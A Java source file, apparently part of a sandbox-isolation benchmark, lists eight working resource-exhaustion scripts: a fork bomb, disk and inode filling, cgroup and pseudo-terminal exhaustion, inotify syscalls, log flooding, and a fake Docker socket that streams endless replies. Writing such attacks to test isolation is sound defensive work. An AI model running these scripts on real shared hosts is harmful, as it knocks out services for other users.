package dev.slipway.bench;

import java.util.List;

/**
 * An attack in which root in a node tries to exhaust a resource that all sandboxes share.
 *
 * @param script bash script that runs in the node until it is killed
 */
record Bomb(String name, String script) {
    static final List<Bomb> ALL = List.of(
            new Bomb("disk", """
                    while :; do dd if=/dev/zero of=/fill bs=1M status=none; rm -f /fill; done"""),
            new Bomb("inodes", """
                    perl -e 'while (1) { mkdir "/fill"; for (1..1e7) { open(my $f, ">", "/fill/$_") or last } system "rm -rf /fill" }'"""),
            new Bomb("processes", """
                    bomb() { bomb | bomb & }; bomb; sleep infinity"""),
            new Bomb("cgroups", """
                    perl -e 'for my $top (glob "/sys/fs/cgroup/*"), "/sys/fs/cgroup" { fork or do { for (1..1e7) { mkdir "$top/bomb$_" or last } sleep } } sleep'"""),
            new Bomb("terminals", """
                    perl -e 'fork for 1..3; open(my $f, "+<", "/dev/ptmx") and push @all, $f for 1..1e5; sleep'"""),
            new Bomb("inotify", """
                    perl -e 'my $init = `uname -m` =~ /x86/ ? 294 : 26; fork for 1..3; syscall($init, 0) for 1..1e5; sleep'"""),
            new Bomb("log output", """
                    yes > /proc/1/fd/1 & docker run --rm --log-opt max-size=1m busybox yes > /dev/null"""),
            // Answers each request with an endless list.
            new Bomb("engine's answers", """
                    rm -f /var/run/docker.sock
                    perl -e 'use IO::Socket::UNIX; $SIG{CHLD} = "IGNORE";
                      my $s = IO::Socket::UNIX->new(Local => "/var/run/docker.sock", Listen => 64);
                      while (my $c = $s->accept) {
                        next if fork; <$c>; my $x = "{}," x 20000;
                        print $c "HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\n[\\r\\n";
                        while (print $c sprintf("%x\\r\\n%s\\r\\n", length $x, $x)) {} exit }'"""));
}
